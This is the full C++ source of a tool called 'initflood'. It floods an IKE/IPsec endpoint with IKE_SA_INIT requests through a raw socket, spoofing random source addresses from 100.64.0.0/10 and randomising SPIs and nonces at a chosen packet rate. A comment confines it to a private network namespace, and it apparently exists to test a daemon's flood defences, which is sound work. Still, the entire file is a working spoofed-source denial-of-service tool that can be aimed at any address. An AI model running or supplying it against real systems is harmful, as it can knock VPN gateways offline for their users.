// initflood: IKE_SA_INIT requests from addresses that do not exist, each with an SPI and a nonce of its own.
//   initflood ADDRESS PORT HEX NONCE_OFFSET PACKETS_PER_SECOND SECONDS   one line of JSON when all are sent
// HEX is one valid request. Sources are 100.64.0.0/10, any port. Only where nobody else listens: a namespace of one's own.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <cstdint>
#include <vector>

namespace {

constexpr int64_t kSecond = 1'000'000'000;
constexpr size_t kBatch = 64;
constexpr size_t kNonceLength = 32;
constexpr uint32_t kFirstSource = 0x64400000;  // 100.64.0.0
constexpr uint32_t kSourceMask = 0x003FFFFF;

int64_t Now() {
  timespec time{};
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec * kSecond + time.tv_nsec;
}

uint64_t Random() {
  static uint64_t state = 0x9E3779B97F4A7C15;
  state ^= state << 13;
  state ^= state >> 7;
  state ^= state << 17;
  return state;
}

std::vector<uint8_t> Octets(const char* hex) {
  std::vector<uint8_t> octets;
  for (size_t at = 0; at + 1 < strlen(hex); at += 2) {
    const char pair[3] = {hex[at], hex[at + 1], 0};
    octets.push_back(static_cast<uint8_t>(strtoul(pair, nullptr, 16)));
  }
  return octets;
}

/// One packet, IP header first; what differs from packet to packet is written by `Renew`.
class Packet {
 public:
  Packet(const std::vector<uint8_t>& request, in_addr to, uint16_t port, size_t nonceOffset)
      : octets_(sizeof(iphdr) + sizeof(udphdr) + request.size()), nonceOffset_(nonceOffset) {
    iphdr ip{};
    ip.version = 4;
    ip.ihl = 5;
    ip.ttl = 64;
    ip.protocol = IPPROTO_UDP;
    ip.daddr = to.s_addr;
    ip.tot_len = htons(static_cast<uint16_t>(octets_.size()));
    udphdr udp{};
    udp.dest = htons(port);
    udp.len = htons(static_cast<uint16_t>(sizeof udp + request.size()));
    memcpy(octets_.data(), &ip, sizeof ip);
    memcpy(octets_.data() + sizeof ip, &udp, sizeof udp);
    memcpy(Body(), request.data(), request.size());
  }

  void Renew() {
    const uint32_t source = htonl(kFirstSource | (static_cast<uint32_t>(Random()) & kSourceMask));
    const uint16_t port = htons(static_cast<uint16_t>(1024 + Random() % 60'000));
    memcpy(octets_.data() + offsetof(iphdr, saddr), &source, sizeof source);
    memcpy(octets_.data() + sizeof(iphdr), &port, sizeof port);
    const uint64_t spi = Random() | 1;
    memcpy(Body(), &spi, sizeof spi);
    for (size_t at = 0; at < kNonceLength; at += sizeof spi) {
      const uint64_t nonce = Random();
      memcpy(Body() + nonceOffset_ + at, &nonce, sizeof nonce);
    }
  }

  iovec Vector() { return {octets_.data(), octets_.size()}; }

 private:
  uint8_t* Body() { return octets_.data() + sizeof(iphdr) + sizeof(udphdr); }

  std::vector<uint8_t> octets_;
  size_t nonceOffset_;
};

}  // namespace

int main(int count, char** words) {
  if (count != 7) return 2;
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  if (inet_pton(AF_INET, words[1], &to.sin_addr) != 1) return 2;
  const auto request = Octets(words[3]);
  const auto port = static_cast<uint16_t>(atoi(words[2]));
  const auto nonceOffset = static_cast<size_t>(atoi(words[4]));
  if (nonceOffset + kNonceLength > request.size()) return 2;
  const double perSecond = atof(words[5]);
  const auto wanted = static_cast<uint64_t>(perSecond * atof(words[6]));
  const int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) return 1;
  std::vector<Packet> packets(kBatch, Packet(request, to.sin_addr, port, nonceOffset));
  std::vector<mmsghdr> messages(kBatch);
  std::vector<iovec> vectors(kBatch);
  for (size_t i = 0; i < kBatch; ++i) {
    vectors[i] = packets[i].Vector();
    messages[i].msg_hdr = {&to, sizeof to, &vectors[i], 1, nullptr, 0, 0};
  }
  const int64_t began = Now();
  uint64_t sent = 0;
  while (sent < wanted) {
    const auto due = static_cast<uint64_t>(static_cast<double>(Now() - began) / kSecond * perSecond);
    if (due <= sent + kBatch) {
      usleep(500);
      continue;
    }
    for (Packet& packet : packets) packet.Renew();
    const int done = sendmmsg(raw, messages.data(), kBatch, 0);
    if (done > 0) sent += static_cast<uint64_t>(done);
  }
  printf("{\"sent\":%llu,\"seconds\":%.3f}\n", static_cast<unsigned long long>(sent),
         static_cast<double>(Now() - began) / kSecond);
  return 0;
}
